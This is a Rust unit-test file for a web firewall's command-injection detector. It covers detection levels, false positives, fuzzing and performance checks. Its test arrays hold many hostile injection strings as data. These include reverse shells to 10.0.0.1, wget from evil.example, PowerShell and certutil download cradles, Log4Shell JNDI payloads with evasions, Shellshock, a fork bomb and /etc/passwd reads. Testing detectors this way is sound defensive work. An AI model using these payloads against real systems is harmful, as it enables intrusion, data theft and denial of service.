//! Unit tests of the command-injection detector.

use super::commands::{COMMAND_TABLE, FAMILIES};
use super::prefilter::first_word_byte;
use super::*;
use sweep::{sweep, W_BATCH, W_GATE, W_HINTS, W_SQLITE};

fn hit(s: &str) -> Option<&'static str> {
    detect(s).map(|f| f.rule)
}

#[test]
fn attacks() {
    for a in [
        "; cat /etc/passwd",
        "127.0.0.1;id",
        "127.0.0.1 | whoami",
        "x && wget http://evil.example/x.sh",
        "$(whoami)",
        "`id`",
        "a`uname -a`",
        "c'a't /etc/passwd",
        "c\"a\"t /etc/passwd",
        ";c\\at /etc/passwd",
        "cat${IFS}/etc/passwd",
        ";cat$IFS$9/etc/passwd",
        ";{cat,/etc/passwd}",
        "/???/c?t /etc/passwd",
        "/bin/c[a]t /etc/passwd",
        "|c^m^d /c dir",
        "& cmd.exe /c whoami",
        "; powershell -enc SQBFAFgA",
        "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
        "() { :; }; /bin/bash -c id",
        "${jndi:ldap://x.example/a}",
        "${${lower:j}ndi:ldap://x.example/a}",
        "${${::-j}${::-n}di:rmi://x/a}",
        "$((1+1))",
        ";nc -e /bin/sh 10.0.0.1 4444",
        "| python -c 'import os'",
        "; ping -c 10 127.0.0.1",
        ";sleep 5",
        "a=cat;b=/etc/passwd;$a $b",
        "FOR /L %G IN (1,1,5) DO echo %G",
        "IF EXIST C:\\boot.ini type C:\\boot.ini",
        "; certutil -urlcache -split -f http://x/a.exe",
        ":(){ :|:& };:",
        "\r\nMAIL FROM:<a@b.example>",
        "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        "echo aWQ= | base64 -d | sh",
    ] {
        assert!(hit(a).is_some(), "missed {a:?}");
    }
}

#[test]
fn benign() {
    for b in crate::waf::tests::NEAR_MISSES.iter().copied().chain([
        "Tom & Jerry",
        "R&D; budget",
        "price > 5",
        "a|b",
        "| Name | Value |",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
        "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; ARM; Trident/6.0; Touch)",
        "curl/7.68.0",
        "Wget/1.21.2",
        "{\"name\": \"cat\", \"tags\": [\"a\", \"b\"], \"ok\": true}",
        "I like cat videos",
        "key=ls foo bar",
        "a b=ls foo",
        "ping me later",
        "ls",
        "find a doctor",
        "sleep well",
        "time warner",
        "how to use ls -la",
        "Hello; time he came",
        "Time & Date",
        "Save & Exit",
        "Copy & Paste",
        "$HOME",
        "$ENV{'HOME'}",
        "{0}",
        "%n",
        "hello world (test)",
        "page[1]",
        "data[index]",
        "Does the * shine bright?",
        "if you want, come",
        "for the win",
        "The alias is not = to the name",
        "We received this mail from Mars",
        "List 3 things\r\nTop 10 rules",
        "2024-01-02",
        "550e8400-e29b-41d4-a716-446655440000",
        "SGVsbG8gd29ybGQ=",
        "$5.99 & free shipping",
        "**bold** and `code`",
        "use `cat` to print a file",
        "~/docs",
    ]) {
        assert_eq!(hit(b), None, "false positive on {b:?}: {:?}", detect(b));
    }
}

#[test]
fn prefilters_are_sound() {
    // every form `lookup` accepts passes the prefix filters
    let t = &*COMMAND_TABLE;
    for &(k, _) in &t.keys {
        let mut forms = vec![k.to_vec(), [k, b".exe"].concat()];
        if !k.ends_with(b".") && !k.last().is_some_and(u8::is_ascii_digit) {
            forms.push([k, b"3.1"].concat());
        }
        if k.len() > 1 {
            forms.push([b"[", &k[..1], b"]", &k[1..]].concat());
        }
        for f in forms {
            assert!(lookup(&f).is_some(), "{:?}", String::from_utf8_lossy(&f));
            // (a first word ends at the first byte outside `first_word_byte`)
            if f.iter().all(|&c| first_word_byte(c)) {
                let v = [f.as_slice(), b" -la /etc"].concat();
                assert!(worth_looking(&v, byte_classes(&v)), "{:?}", v);
            }
        }
    }
    for p in FAMILIES {
        assert!(lookup(&[p, b"x"].concat()).is_some());
    }
    // the PowerShell gate holds wherever the regex matches
    for s in [
        "invoke-expression",
        "new-object net.webclient",
        "start-process x",
        "set-mppreference",
        "add-mppreference",
        "set-executionpolicy",
        "get-wmiobject",
        "frombase64string (",
        "downloadfile\u{a0}(",
        "downloaddata(",
        "x-encodedcommand",
        "iex $x",
        "iex(",
        "powershell.exe -nop",
    ] {
        assert!(RE_POWERSHELL.is_match(s.as_bytes()), "{s}");
        assert!(ps_gate(s.as_bytes()), "{s}");
    }
}

#[test]
fn spans_are_valid() {
    for a in ["é;cat /etc/passwd", "ü${jndi:ldap://x/ä}", "日本;id"] {
        let f = detect(a).expect("hit");
        assert!(a.is_char_boundary(f.span.start) && a.is_char_boundary(f.span.end));
        assert!(f.span.start < f.span.end && f.span.end <= a.len());
    }
}

#[test]
fn no_panic_on_random_input() {
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let alphabet: Vec<char> = ";|&$`(){}[]<>'\"\\^~!?*=/ \n\tabcIFSjndi:-.é日\u{0}\u{FFFD}"
        .chars()
        .collect();
    for _ in 0..20_000 {
        let mut s = String::new();
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        let len = (x % 64) as usize;
        for _ in 0..len {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            s.push(alphabet[(x % alphabet.len() as u64) as usize]);
        }
        if let Some(f) = detect(&s) {
            assert!(s.is_char_boundary(f.span.start) && s.is_char_boundary(f.span.end));
        }
        let bytes: Vec<u8> = (0..len).map(|k| (x >> (k % 56)) as u8).collect();
        let _ = detect(&String::from_utf8_lossy(&bytes));
    }
}

fn strict_rule(s: &str) -> Option<&'static str> {
    assert!(detect(s).is_none(), "level 1 already fires on {s:?}");
    let f = detect_strict(s)?;
    assert!(
        s.get(f.span.clone()).is_some_and(|t| !t.is_empty()),
        "bad span in {s:?}"
    );
    Some(f.rule)
}

#[test]
fn level2_command_lines_with_plain_arguments() {
    for a in [
        "chef report nodes",
        "chef report nodes\n",
        "pip install something",
        "ls foo bar",
        "shutdown\n",
        "  knife node list",
        "LANG=C ls foo bar",
    ] {
        assert_eq!(strict_rule(a), Some(strict::R_PL2_UNIX), "{a:?}");
    }
}

#[test]
fn level2_command_glued_to_a_separator() {
    for a in [
        ";top Something else 1 „The Title”. After space or new line more characters",
        "Something else 2. After ;top something",
        "x&&make all of it",
    ] {
        assert_eq!(strict_rule(a), Some(strict::R_PL2_UNIX), "{a:?}");
    }
    assert_eq!(strict_rule("tasklist svc"), Some(strict::R_PL2_WIN));
}

#[test]
fn level2_leaves_prose_and_near_misses_alone() {
    for b in [
        "O'Brien",
        "select a plan",
        "1 or 2 bedrooms",
        "a<b && c>d",
        "Tom & Jerry",
        "R&D top",
        "P&ID top",
        "Test spider",
        "Java 1.1",
        "stat statcrawler@gmail.com",
        "cat videos are fun",
        "make",
        "ls foo bar baz qux quux",
        "Cut orange quarters into crosswise slices about 1/8-inch thick.\n",
        "Mount Airy basketball coach Bryan Hayes lectures his team.\n",
        "Go to store.\nAt the store, shop.",
        "see below; top of the page",
        "I like cat videos",
        "key=ls foo bar",
        "a b=ls foo",
        "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.8.1)",
    ] {
        assert_eq!(detect(b).map(|f| f.rule), None, "level 1 on {b:?}");
        assert_eq!(detect_strict(b).map(|f| f.rule), None, "level 2 on {b:?}");
    }
}

#[test]
fn level2_only_at_paranoia_2() {
    use crate::waf::{detect_at, AttackCategory, Paranoia};
    let v = "pip install something";
    assert!(detect_at(AttackCategory::Rce, v, Paranoia::Level1).is_none());
    let f = detect_at(AttackCategory::Rce, v, Paranoia::Level2).expect("level 2 fires");
    assert_eq!(f.rule, "rce-pl2-unix-command");
    assert_eq!(&v[f.span], "pip");
    assert!(crate::waf::is_rule("rce-pl2-windows-command"));
}

#[test]
fn level2_is_linear() {
    let values = [
        format!("{}{}", " ".repeat(30_000), "a=ls ".repeat(6_000)),
        "x;top a b ".repeat(6_000),
        format!("ls {}", "foo ".repeat(15_000)),
    ];
    for v in &values {
        let t = std::time::Instant::now();
        let _ = detect(v);
        let _ = detect_strict(v);
        assert!(
            t.elapsed() < std::time::Duration::from_secs(2),
            "{} bytes",
            v.len()
        );
    }
}

/// The byte tests in front of the `$` rules give the verdicts of the searches they guard:
/// [`expansion_gate`] holds wherever [`RE_EXPANSION`] matches, [`log4shell`] (which needs a
/// `j`) agrees with the resolution alone, [`find_ci`] and [`braced_command`] with a search
/// from every byte.
fn dollar_rules_agree(v: &str) {
    let b = v.as_bytes();
    if RE_EXPANSION.is_match(v) {
        assert!(expansion_gate(b), "{v:?}");
    }
    assert_eq!(
        structural::log4shell(b),
        structural::resolve_lookups(b),
        "{v:?}"
    );
    for needle in [&b"$ifs"[..], b"${ifs"] {
        let naive = (0..=b.len().saturating_sub(needle.len())).find(|&i| {
            b.len() >= needle.len() && b[i..i + needle.len()].eq_ignore_ascii_case(needle)
        });
        assert_eq!(find_ci(b, needle), naive, "{v:?}");
    }
    let braced = {
        let mut from = 0;
        let mut out = None;
        while let Some(p) = memchr::memmem::find(&b[from..], b"${") {
            let o = from + p;
            from = o + 2;
            let s = o + 2;
            let mut e = s;
            while e < b.len() && e - s < 24 && (b[e].is_ascii_alphanumeric() || b[e] == b'-') {
                e += 1;
            }
            if e > s && b.get(e) == Some(&b'}') {
                let w = b[s..e].to_ascii_lowercase();
                if lookup(&w).is_some_and(|f| f & EN == 0) {
                    out = Some((o, e + 1));
                    break;
                }
            }
        }
        out
    };
    assert_eq!(braced_command(b), braced, "{v:?}");
}

/// ... on every corpus value, shifted by zero to three bytes ...
#[test]
fn dollar_rule_gates_agree_on_the_corpus() {
    let Some(values) = crate::waf::tests::corpus_values(true) else {
        return;
    };
    for v in &values {
        for pad in ["", "$", "${", "a ${"] {
            dollar_rules_agree(&format!("{pad}{v}"));
        }
    }
}

/// ... and on random sequences of near-attack tokens.
#[test]
fn dollar_rule_gates_agree_on_random_token_sequences() {
    const TOKENS: &[&str] = &[
        "$",
        "${",
        "}",
        "{",
        "$((",
        "$[",
        "]",
        "(",
        ")",
        "!",
        "!-",
        "1",
        "#",
        "%",
        ":-",
        ":",
        "::-",
        "lower:",
        "upper:",
        "j",
        "J",
        "ndi",
        "NDI",
        "jndi:",
        "ldap://x",
        " ",
        "\t",
        "`",
        "ifs",
        "IFS",
        "a",
        "_x",
        "wget",
        "cat",
        "K",
        "ſ",
        "\u{a0}",
        "' or <a on=../;|",
        "//",
        ",,",
        "^^",
        "/",
    ];
    for v in crate::waf::tests::token_sequences(0x9e37_79b9_7f4a_7c15u64, TOKENS, 20_000, 60) {
        dollar_rules_agree(&v);
    }
}

/// Shell and Make text quoted in technical prose: Make variables `$(NAME)` and POSIX
/// default-value expansions stay clean; command substitutions and bash-only expansions next
/// to them still fire.
#[test]
fn make_variables_and_default_expansions() {
    for b in [
        "The Makefile target test: depends on build:, and $(CC) expands to the compiler.",
        "$(CC) -o app main.c $(LDFLAGS)",
        "install: $(BUILD_DIR)/app",
        "In Bash, ${name:-default} gives a default.",
        "PORT=${PORT:-8080}",
        "image: app:${TAG:=latest}",
    ] {
        assert_eq!(hit(b), None, "{b}");
    }
    for a in [
        "x=$(id)",
        "$(whoami)",
        "$(CC);id",
        "$(CC) && wget http://evil.example/x",
        "${a:-$(id)}",
        "${x##*/}",
        "${PATH:-$(cat /etc/passwd)}",
    ] {
        assert!(hit(a).is_some(), "{a}");
    }
}

/// The gated analysis gives the ungated one's verdict (rule and span), at both levels.
fn same_as_ungated(v: &str) {
    let key = |f: Option<crate::waf::Finding>| f.map(|f| (f.rule, f.span));
    assert_eq!(
        key(detect_gated(v)),
        key(detect_ungated(v)),
        "level 1 on {v:?}"
    );
    assert_eq!(key(detect(v)), key(detect_ungated(v)), "level 1 on {v:?}");
    assert_eq!(
        key(detect_strict(v)),
        key(detect_strict_with(v, false)),
        "level 2 on {v:?}"
    );
}

/// ... on every corpus value, with prefixes and suffixes that open or close a command
/// position or glue a word ...
#[test]
fn word_gate_gives_the_ungated_verdict_on_the_corpus() {
    let Some(values) = crate::waf::tests::corpus_values(true) else {
        return;
    };
    assert!(values.len() > 10_000, "{}", values.len());
    for v in &values {
        for (pre, post) in [("", ""), ("x ", " y"), (";", "|"), ("a=", "'")] {
            same_as_ungated(&format!("{pre}{v}{post}"));
        }
    }
}

/// ... and on random sequences of command words, keywords, shell syntax that normalisation
/// rewrites (quotes, `$` forms, backtick pairs, entities) and prose.
#[test]
fn word_gate_gives_the_ungated_verdict_on_random_token_sequences() {
    const TOKENS: &[&str] = &[
        "cat",
        "c",
        "at",
        "ls",
        "id",
        "wget",
        "sh",
        "python3",
        "nohup",
        "time",
        "ping",
        "alias",
        "powershell",
        "invoke-expression",
        "iex",
        "new-object",
        "download",
        "string(",
        "encodedcommand",
        "bin",
        "/bin/",
        "bin/",
        "/dev/tcp/10.0.0.1/80",
        "c:",
        "system32",
        "cmd.exe",
        "[c]",
        "[",
        "]",
        "whoami",
        "ansible-x",
        "g++",
        "the",
        "or",
        "on",
        "a",
        "x",
        "Please",
        "leave",
        "UPPER",
        "CC",
        "IFS",
        "SHELL",
        "BASH",
        "'",
        "\"",
        "\\",
        "^",
        "$",
        "${",
        "}",
        "{",
        "$1",
        "$@",
        "$0",
        "$x",
        "${x}",
        "$IFS",
        "${IFS}",
        "$SHELL",
        "$(",
        "$()",
        "$(CC)",
        "$'",
        ")",
        "(",
        "`",
        "``",
        "```",
        "<()",
        "<",
        ">",
        "&",
        "&amp;",
        "&#59;",
        ";",
        "|",
        "||",
        "&&",
        "\n",
        "\r",
        "\t",
        " ",
        "  ",
        "=",
        "a=",
        "x=cat",
        "+",
        ":",
        "/",
        "-",
        "-la",
        "/etc/passwd",
        "é",
        "\u{a0}",
        ",",
        "?",
        "*",
        "#",
        "!",
        "@",
        ".",
        "5",
        "10.0.0.1",
        "' or <a on=../;|${ ",
    ];
    for v in crate::waf::tests::token_sequences(0x2545_f491_4f6c_dd1du64, TOKENS, 30_000, 24) {
        same_as_ungated(&v);
    }
}

/// The sweep's answers equal those of the functions it stands for: the `memchr` forms of the
/// `$` hints, the SQLite and batch tests, and the word gate as it visited every word start.
fn sweep_agrees(v: &str) {
    let b = v.as_bytes();
    let classes = byte_classes(b);
    let all = W_HINTS | W_SQLITE | W_BATCH | W_GATE;
    let got = sweep(b, classes, all);
    let want = sweep::Sweep {
        hints: if classes & B_DOLLAR != 0 {
            dollar_hints(b)
        } else {
            0
        },
        sqlite: classes & B_SEMI != 0 && sqlite_gate(b),
        batch: batch_gate(b),
        normalized: gate::may_match_normalized_per_word(b, classes),
        windowable: false,
    };
    assert_eq!(got, want, "{v:?}");
    // collecting the spots changes no answer
    let mut spots = Vec::new();
    let collected = sweep::sweep_spots(b, classes, all | sweep::W_SPOTS, &mut spots);
    assert_eq!(
        sweep::Sweep {
            windowable: false,
            ..collected
        },
        want,
        "{v:?}"
    );
    // each question alone gets the same answer
    for w in [W_HINTS, W_SQLITE, W_BATCH, W_GATE] {
        let one = sweep(b, classes, w);
        assert_eq!(
            one.hints,
            if w == W_HINTS { want.hints } else { 0 },
            "{v:?}"
        );
        assert_eq!(one.sqlite, w == W_SQLITE && want.sqlite, "{v:?}");
        assert_eq!(one.batch, w == W_BATCH && want.batch, "{v:?}");
        assert_eq!(one.normalized, w == W_GATE && want.normalized, "{v:?}");
    }
}

/// ... on every corpus value, with prefixes and suffixes, and at block boundaries ...
#[test]
fn sweep_agrees_on_the_corpus() {
    let Some(values) = crate::waf::tests::corpus_values(true) else {
        return;
    };
    let pad = "x".repeat(61);
    for v in &values {
        for (pre, post) in [
            ("", ""),
            ("x ", " y"),
            (";", "|"),
            ("a=", "'"),
            (&pad[..], ""),
        ] {
            sweep_agrees(&format!("{pre}{v}{post}"));
        }
    }
}

/// ... and on random sequences of near-attack tokens, command words and `$` forms, long
/// enough to span several blocks.
#[test]
fn sweep_agrees_on_random_token_sequences() {
    const TOKENS: &[&str] = &[
        "$",
        "${",
        "${ ",
        "}",
        "{",
        "$((",
        "$(",
        "$[",
        "[",
        "]",
        "!",
        "!-",
        "$i",
        "${I",
        "${ifs}",
        "$IFS",
        "$1",
        "$x",
        "${x}",
        "$0",
        "$SHELL",
        "`",
        " ",
        "\t",
        ";",
        ";.",
        "; .",
        ";\\n.",
        ".",
        "f",
        "F",
        "if",
        "IF",
        "for",
        "For",
        "@",
        "&",
        "|",
        "(",
        ")",
        "\n",
        "cat",
        "c",
        "at",
        "ls",
        "id",
        "wget",
        "bin",
        "dev",
        "alias",
        "iex",
        "or",
        "on",
        "a",
        "x",
        "'",
        "\"",
        "\\",
        "^",
        "=",
        "a=",
        "x=cat",
        "+",
        ":",
        "c:",
        "/",
        "-",
        "é",
        "\u{a0}",
        "5",
        "' or <a on=../;|${ ",
        "*",
        "?",
        ",",
    ];
    for v in crate::waf::tests::token_sequences(0x853c_49e6_748f_ea9bu64, TOKENS, 30_000, 90) {
        sweep_agrees(&v);
    }
}

/// The word gate's two-byte rejection ([`gate`]'s table of plain pairs) only rejects word
/// starts that the per-word reading rejects too: checked on every pair of bytes, in command
/// position and out of it, before bytes that end or continue the word.
#[test]
fn plain_pairs_reject_only_what_the_word_reading_rejects() {
    for c0 in 0..=255u8 {
        for c1 in 0..=255u8 {
            for (pre, post) in [("", ""), ("x ", " y"), (";", "|"), ("a", "b"), (";", "c:")] {
                let mut v = pre.as_bytes().to_vec();
                v.extend([c0, c1]);
                v.extend(post.as_bytes());
                let classes = byte_classes(&v);
                let g = gate::Gate::new(&v, classes);
                let q = pre.len();
                assert_eq!(
                    g.start_may_matter(q),
                    g.word_at(q),
                    "{c0:#x} {c1:#x} in {:?}",
                    String::from_utf8_lossy(&v)
                );
            }
        }
    }
}
